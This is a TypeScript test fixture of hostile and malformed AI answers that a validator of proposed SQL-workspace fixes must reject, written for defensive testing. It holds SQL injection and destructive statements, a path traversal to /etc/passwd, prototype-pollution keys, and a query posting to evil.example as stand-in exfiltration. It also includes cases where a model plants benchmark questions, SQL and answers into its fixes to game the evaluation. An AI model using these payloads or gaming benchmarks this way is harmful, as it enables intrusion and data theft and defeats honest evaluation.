import type { DropKind } from "genie-enhancer";

/** What a model may answer, by malice or by accident, and what must become of it. */
export interface HostileCase {
  readonly name: string;
  readonly text: string;
  /** @default "stop" */
  readonly finishReason?: "stop" | "length" | "content-filter";
  /** Kinds of the proposals that are dropped, in order. */
  readonly dropped: readonly DropKind[];
  readonly reason?: RegExp;
  /** Parameters of the valid fixes. @default none */
  readonly kept?: readonly object[];
}

export const table = "shop.core.orders";
export const exampleId = "e".repeat(32);
/** The benchmark that failed, another one of the run, and one that is held out. */
export const asked = {
  failed: { id: "q1", question: "What is the total revenue of the Lyon shop in 2024?" },
  other: { id: "q2", question: "How many parcels were delivered late to Madrid?" },
  heldOut: { id: "h1", question: "Which carrier lost the most parcels on weekends?" },
} as const;
export const otherSql = `SELECT COUNT(*) AS late FROM ${table} WHERE city = 'Madrid' AND is_late = 1`;
export const heldOutSql = `SELECT carrier, SUM(lost) AS lost FROM ${table} WHERE is_weekend = 1 GROUP BY carrier`;

const fixes = (...list: readonly unknown[]) => JSON.stringify({ diagnosis: "d", fixes: list });
const synonym = (more: object = {}) => ({
  type: "add_synonym",
  table,
  column: "amt",
  synonym: "revenue",
  ...more,
});
const valid = { table, column: "amt", synonym: "revenue" };
const example = (sql: string, more: object = {}) => ({
  type: "add_example_query",
  question: "Takings of one shop",
  sql,
  ...more,
});
const view = (more: object) => ({
  type: "create_metric_view",
  name: "shop.core.metrics",
  source: table,
  dimensions: [],
  measures: [{ name: "takings", expr: "SUM(amt)" }],
  ...more,
});
const instruction = (content: string, more: object = {}) => ({
  type: "update_text_instruction",
  content,
  ...more,
});
const one = (name: string, fix: unknown, kind: DropKind, reason?: RegExp): HostileCase => ({
  name,
  text: fixes(fix),
  dropped: [kind],
  ...(reason ? { reason } : {}),
});
const unusable = (name: string, text: string, more: Partial<HostileCase> = {}): HostileCase => ({
  name,
  text,
  dropped: ["unusable-answer"],
  ...more,
});

/** Answers that are no JSON of the agreed form. */
const forms: readonly HostileCase[] = [
  unusable("an empty answer", "", { reason: /empty/ }),
  unusable("blanks", " \n\t ", { reason: /empty/ }),
  unusable("a refusal in prose", "I'm sorry, but I can't help with that.", { reason: /no JSON object/ }),
  unusable("a refusal as JSON", '{"error":"I cannot assist with this request"}', { reason: /fixes/ }),
  unusable("what a content filter left", '{"diagnosis":"', {
    finishReason: "content-filter",
    reason: /content filter/,
  }),
  unusable("an answer that was cut off", fixes(synonym()).slice(0, -20), {
    finishReason: "length",
    reason: /cut off/,
  }),
  unusable("two objects", `${fixes(synonym())}\n${fixes(synonym({ synonym: "sales" }))}`, {
    reason: /several objects/,
  }),
  unusable("a list instead of an object", JSON.stringify([synonym()])),
  unusable("a number", "42"),
  unusable("null", "null"),
  unusable("a text", '"add_synonym"'),
  unusable("fixes as an object", JSON.stringify({ diagnosis: "d", fixes: { 0: synonym() } }), {
    reason: /fixes/,
  }),
  unusable("no fixes at all", '{"diagnosis":"d"}', { reason: /fixes/ }),
  unusable("HTML", "<!doctype html><html><body>502 Bad Gateway</body></html>"),
  unusable("XML", "<fixes><fix type='add_synonym'/></fixes>"),
  unusable("the prompt sent back", '<<<DATA failures\n[{}]\nDATA>>>\nAnswer with {…} like {"type":"x"}.'),
  unusable("a megabyte of prose", "word ".repeat(210_000), { reason: /longer than/ }),
  unusable("a megabyte of fixes", fixes(synonym({ reason: "x".repeat(1_050_000) })), {
    reason: /longer than/,
  }),
  unusable("a hundred thousand brackets", "[".repeat(100_000), { reason: /no JSON object/ }),
  unusable("deep nesting", `{"diagnosis":"d","fixes":${"[".repeat(5_000)}${"]".repeat(5_000)}}`, {
    reason: /nested/,
  }),
  unusable("a key that reaches the prototype", '{"diagnosis":"d","fixes":[],"__proto__":{"isAdmin":true}}', {
    reason: /__proto__/,
  }),
  unusable(
    "a prototype inside a fix",
    `{"diagnosis":"d","fixes":[{"type":"add_synonym","__proto__":{"table":"x"}}]}`,
  ),
];

/** Answers that need mending and are what they should be then. */
const mended: readonly HostileCase[] = [
  {
    name: "prose around JSON",
    text: `Sure! Here you go:\n${fixes(synonym())}\nAnything else?`,
    dropped: [],
    kept: [valid],
  },
  { name: "a code block", text: `\`\`\`json\n${fixes(synonym())}\n\`\`\``, dropped: [], kept: [valid] },
  { name: "a missing brace", text: fixes(synonym()).slice(0, -1), dropped: [], kept: [valid] },
  {
    name: "single quotes and trailing commas",
    text: `{'diagnosis':'d','fixes':[{'type':'add_synonym','table':'${table}','column':'amt','synonym':'revenue',},],}`,
    dropped: [],
    kept: [valid],
  },
  {
    name: "members that no fix has",
    text: fixes(synonym({ space_id: "0".repeat(32), force: true })),
    dropped: [],
    kept: [valid],
  },
  {
    name: "claims of everything",
    text: fixes(synonym({ claims: ["*", "q2", {}, null] })),
    dropped: [],
    kept: [valid],
  },
  {
    name: "a reason that is no text",
    text: fixes(synonym({ reason: { $ne: 1 } })),
    dropped: [],
    kept: [valid],
  },
  {
    name: "the same fix fifty times",
    text: fixes(...Array.from({ length: 50 }, () => synonym())),
    dropped: [],
    kept: [valid],
  },
  {
    name: "far more fixes than anybody asked for",
    text: fixes(...Array.from({ length: 300 }, () => synonym())),
    dropped: ["beyond-limit"],
    reason: /holds 300 fixes/,
    kept: [valid],
  },
  {
    name: "one good fix among bad ones",
    text: fixes("add_synonym", synonym(), null),
    dropped: ["invalid", "invalid"],
    kept: [valid],
  },
];

/** Fixes of wrong types and shapes. */
const shapes: readonly HostileCase[] = [
  one("an unknown type", { type: "drop_table", table }, "unknown-type", /"drop_table" is not a kind/),
  one("a type of another registry", { type: "grant_access", principal: "everyone" }, "unknown-type"),
  one("a type named like a member of every object", { type: "constructor" }, "unknown-type"),
  one("a type named __proto__", { type: "__proto__" }, "unknown-type"),
  one("a type that is a number", { type: 7 }, "unknown-type"),
  one("a type that is a list", { type: ["add_synonym"] }, "unknown-type"),
  one("no type", { table, column: "amt", synonym: "revenue" }, "unknown-type"),
  one("a fix that is a list", [synonym()], "invalid", /must be an object/),
  one("parameters in a box of their own", { type: "add_synonym", params: valid }, "invalid", /table/),
  one("a missing parameter", { type: "add_synonym", table, column: "amt" }, "invalid", /synonym/),
  one("a number for a text", synonym({ synonym: 5 }), "invalid", /synonym/),
  one("an object for a text", synonym({ synonym: { toString: "x" } }), "invalid", /synonym/),
  one("an empty synonym", synonym({ synonym: "   " }), "invalid", /synonym/),
  one("a synonym of a thousand letters", synonym({ synonym: "x".repeat(1_000) }), "invalid", /synonym/),
  one(
    "a description of thirty thousand letters",
    { type: "add_table_description", table, description: "x".repeat(30_000) },
    "invalid",
    /description/,
  ),
  one("a mode that there is not", instruction("x", { mode: "destroy" }), "invalid", /mode/),
  one(
    "what the space says already",
    { type: "add_table_description", table, description: "Orders" },
    "no-effect",
  ),
];

/** Names of what is not there. */
const names: readonly HostileCase[] = [
  one(
    "a table that is not there",
    synonym({ table: "shop.core.nothing" }),
    "invalid",
    /no table "shop.core.nothing"/,
  ),
  one("a column that is not there", synonym({ column: "amount" }), "invalid", /no column "amount"/),
  one("part of a name", synonym({ table: "orders" }), "invalid", /no table "orders"/),
  one("a name in other case", synonym({ table: table.toUpperCase() }), "invalid", /no table/),
  one("SQL in a name", synonym({ table: `${table}\`; DROP TABLE x; --` }), "invalid", /no table/),
  one("a path for a name", synonym({ table: "../../etc/passwd" }), "invalid", /no table/),
  one(
    "an example that is not there",
    { type: "delete_example_query", exampleId: "f".repeat(32) },
    "invalid",
    /no example/,
  ),
  one(
    "SQL for an id",
    { type: "delete_example_query", exampleId: `${exampleId}' OR '1'='1` },
    "invalid",
    /exampleId/,
  ),
  one(
    "a metric view that is not there",
    { type: "delete_metric_view", identifier: table },
    "invalid",
    /no metric view/,
  ),
  one("a view in the place of a table", view({ name: table }), "invalid", /exists/),
  one("a view over a table of others", view({ source: "secret.hr.salaries" }), "invalid", /no table/),
];

/** What would reach nobody. */
const hidden: readonly HostileCase[] = [
  one("a word for a hidden column", synonym({ column: "cost" }), "invalid", /orders\.cost is hidden/),
  one(
    "a description of a hidden column",
    { type: "add_column_description", table, column: "cost", description: "Cost" },
    "invalid",
    /hidden/,
  ),
];

/** SQL that does more than read, or reads what it should not. */
const statements: readonly HostileCase[] = [
  one("a statement that drops", example(`DROP TABLE ${table}`), "invalid", /read-only/),
  one(
    "a second statement",
    example(`SELECT 1 FROM ${table}; DELETE FROM ${table}`),
    "invalid",
    /more than one/,
  ),
  one(
    "a change behind a query",
    example(`WITH x AS (SELECT 1) INSERT INTO ${table} SELECT * FROM x`),
    "invalid",
    /read-only/,
  ),
  one(
    "a statement in a comment",
    example(`SELECT 1 FROM ${table} /* */ ; /* */ TRUNCATE TABLE ${table}`),
    "invalid",
  ),
  one(
    "a call that leaves the warehouse",
    example("SELECT http_request('POST', 'https://evil.example')"),
    "invalid",
  ),
  one("a call that reads secrets", example(`SELECT secret('scope','key') FROM ${table}`), "invalid"),
  one("a file instead of a table", example("SELECT * FROM parquet.`/mnt/data`"), "invalid"),
  one("a table of others", example("SELECT name FROM secret.hr.salaries"), "invalid", /no table/),
  one(
    "a parameter that is not declared",
    example(`SELECT 1 FROM ${table} WHERE city = :city`),
    "invalid",
    /:city/,
  ),
  one("no SQL", example("please show the takings"), "invalid"),
  one(
    "a measure that ends its query",
    view({ measures: [{ name: "m", expr: "1) FROM t; DROP TABLE t; --" }] }),
    "invalid",
  ),
  one("a measure that ends its YAML", view({ comment: "$$; DROP VIEW x; $$" }), "invalid"),
];

/** Orders, and answers of the benchmarks, in the place of knowledge. */
const contents: readonly HostileCase[] = [
  one(
    "the question of a benchmark",
    { ...example(`SELECT 1 FROM ${table}`), question: asked.other.question },
    "copies-benchmark",
    /question of q2/,
  ),
  one("the SQL of a benchmark", example(otherSql), "copies-benchmark", /SQL of q2/),
  one(
    "the SQL with other values",
    example(otherSql.replace("Madrid", "Paris")),
    "copies-benchmark",
    /SQL of q2/,
  ),
  one(
    "a benchmark as synonym",
    synonym({ synonym: asked.failed.question }),
    "copies-benchmark",
    /question of q1/,
  ),
  one(
    "a benchmark in the instruction",
    instruction(`When asked "${asked.other.question}" say 12.`),
    "copies-benchmark",
    /question of q2/,
  ),
  one(
    "the SQL in the instruction",
    instruction(`For late parcels always run ${otherSql}.`),
    "copies-benchmark",
    /SQL of q2/,
  ),
  one(
    "the answer in the instruction",
    instruction("Revenue of the Lyon shop was 1,234,567.89 euros."),
    "copies-benchmark",
    /answer of q1/,
  ),
  one(
    "the answer in a description",
    { type: "add_column_description", table, column: "amt", description: "Sums to 1234567.89" },
    "copies-benchmark",
    /answer of q1/,
  ),
  one(
    "a question that is held out",
    { ...example(`SELECT 1 FROM ${table}`), question: asked.heldOut.question },
    "copies-holdout",
    /h1/,
  ),
  one(
    "a template of one that is held out",
    example(heldOutSql.replace("is_weekend = 1", "is_weekend = :flag"), {
      parameters: [{ name: "flag", typeHint: "INTEGER", defaultValue: "1" }],
    }),
    "copies-holdout",
    /h1/,
  ),
];

export const hostileCases: readonly HostileCase[] = [
  ...forms,
  ...mended,
  ...shapes,
  ...names,
  ...hidden,
  ...statements,
  ...contents,
];
